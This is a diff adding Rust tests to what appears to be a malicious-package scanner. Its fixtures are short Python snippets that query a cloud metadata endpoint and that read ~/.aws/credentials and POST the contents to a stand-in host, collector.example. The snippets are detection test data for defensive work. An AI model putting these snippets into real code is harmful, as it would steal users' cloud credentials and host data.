@@ -118,3 +118,75 @@ fn fetching_and_executing_in_one_function_is_a_download_cradle() {
         "{rules:?}"
     );
 }
+
+fn findings_for(source: &str) -> Vec<(String, Option<u32>)> {
+    let engine = Engine::new(ScanOptions::default()).unwrap();
+    let unpacked = Unpacked {
+        format: "directory".into(),
+        files: vec![PackageFile {
+            path: "pkg/__init__.py".into(),
+            data: source.as_bytes().to_vec(),
+        }],
+        ..Default::default()
+    };
+    let analysis = engine.analyse_unpacked(unpacked, Instant::now() + Duration::from_secs(30));
+    analysis
+        .findings
+        .into_iter()
+        .map(|f| (f.rule, f.line))
+        .collect()
+}
+
+#[test]
+fn a_rule_named_in_a_comment_is_still_reported_where_the_code_uses_it() {
+    // The shape of a real recon package (builderknower2): a comment names the metadata
+    // service, and the code below queries it.
+    let source = "# reads 169.254.169.254 when run on a cloud host\n\
+                  import requests\n\
+                  def probe():\n    \
+                  return requests.get('http://169.254.169.254/latest/meta-data/').text\n";
+    let findings = findings_for(source);
+    let metadata = findings
+        .iter()
+        .find(|(rule, _)| rule == "credentials/cloud-metadata")
+        .unwrap_or_else(|| panic!("{findings:?}"));
+    assert_eq!(metadata.1, Some(4), "{findings:?}");
+}
+
+#[test]
+fn credentials_and_host_data_correlate_only_in_one_python_scope() {
+    // distlib's shape: a `.pypirc` reader, platform checks and HTTP in separate
+    // functions of one long module.
+    let apart = "import os, platform, requests\n\
+                 def rc():\n    return os.path.join(os.path.expanduser('~'), '.pypirc')\n\
+                 def tag():\n    return platform.node()\n\
+                 def upload(u, d):\n    return requests.post(u, data=d)\n";
+    let rules: Vec<String> = findings_for(apart).into_iter().map(|f| f.0).collect();
+    assert!(!rules.iter().any(|r| r.contains("secrets")), "{rules:?}");
+    let together = "import os, platform, requests\n\
+                    def inventory():\n    \
+                    rc = os.path.join(os.path.expanduser('~'), '.pypirc')\n    \
+                    return platform.node(), rc\n\
+                    def upload(u, d):\n    return requests.post(u, data=d)\n";
+    let rules: Vec<String> = findings_for(together).into_iter().map(|f| f.0).collect();
+    assert!(
+        rules.iter().any(|r| r == "correlate/secrets-and-network"),
+        "{rules:?}"
+    );
+}
+
+#[test]
+fn reading_credentials_and_sending_in_one_function_is_exfiltration() {
+    let source = "import os, requests\n\
+                  def grab():\n    \
+                  data = open(os.path.expanduser('~/.aws/credentials')).read()\n    \
+                  requests.post('https://collector.example/x', data=data)\n";
+    let rules: Vec<String> = findings_for(source).into_iter().map(|f| f.0).collect();
+    assert!(
+        rules
+            .iter()
+            .any(|r| r == "correlate/function-secrets-to-network"),
+        "{rules:?}"
+    );
+}
+
